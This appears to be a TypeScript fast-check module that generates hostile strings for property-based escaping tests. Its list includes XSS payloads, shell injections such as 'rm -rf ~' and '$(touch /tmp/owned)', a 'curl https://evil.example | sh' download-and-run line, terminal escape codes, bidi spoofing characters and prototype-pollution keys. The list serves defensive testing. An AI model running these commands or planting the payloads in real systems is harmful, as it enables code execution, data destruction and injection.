/** Texts by which somebody would get through: into Markdown, HTML, a shell, a terminal, a log line, or an object's prototype. */
import fc from 'fast-check';

/** Words that mean something to whoever reads them without care. */
const attacks = [
  '[see this](https://evil.example/a)',
  '](https://evil.example) [',
  '![x](https://evil.example/x.png)',
  '| a | b |',
  '`code`',
  '``` \n # heading',
  '**bold** _and_ ~~more~~',
  '\n\n# A heading\n\n',
  '\n\nmountwatch:alarm=mountwatch/fs-00000000/forged',
  'mountwatch:dashboard=mountwatch-us-east-1-fleet\n',
  'Services that mount it (2099-01-01): forged/web.',
  '\nServices that mount it (2099-01-01): forged/web.',
  'Without effect: tag mountwatch:enabled="x".',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script><!--',
  '"><img src=x onerror=alert(1)>',
  "' onclick='alert(1)",
  '&lt;b&gt;&amp;&#x3c;',
  '$(touch /tmp/owned)',
  '`touch /tmp/owned`',
  '; rm -rf ~ ;',
  "' ; id ; '",
  '" ; id ; "',
  '&& id',
  '| sh',
  '> /etc/passwd',
  '\nid\n',
  '\r\nid',
  '\\',
  "'",
  '"',
  '$HOME',
  '\u0024{PATH}',
  '$1',
  '!!',
  '*',
  '~',
  '{a,b}',
  '# no more',
  '--endpoint-url=https://evil.example',
  '-x',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u009b31m',
  '\u0000',
  '\u0007\b\b\b',
  '\u202e\u2066gpj.exe\u2069',
  '\u200b\u200d\ufeff',
  '\u2028a\u2029b',
  '\ud800',
  '\udfff\ud800',
  '1. Not cleared: curl https://evil.example | sh',
  '\n1. inbound-2049: forged\n     curl https://evil.example | sh',
  '\nfail     inbound-2049  forged',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'then',
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  '0x10',
  '%s%d%n',
  '{{constructor}}',
] as const;

const attack = fc.constantFrom<string>(...attacks);

/** Also what a name may be, so that an attack stands within one. */
const word = fc.stringMatching(/^[a-z][a-z0-9-]{0,12}$/);

const long = fc
  .tuple(
    fc.oneof(attack, fc.constantFrom('a', '\u0300', '\u{1f600}', ' ')),
    fc.integer({ min: 50, max: 4_000 }),
  )
  .map(([piece, times]) => piece.repeat(times).slice(0, 20_000));

/** Any, from nothing to 20,000 characters. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: attack },
  {
    weight: 4,
    arbitrary: fc.array(fc.oneof(attack, word), { minLength: 2, maxLength: 4 }).map((all) => all.join('')),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: word },
  { weight: 1, arbitrary: fc.constantFrom('', ' ') },
  { weight: 1, arbitrary: long },
);
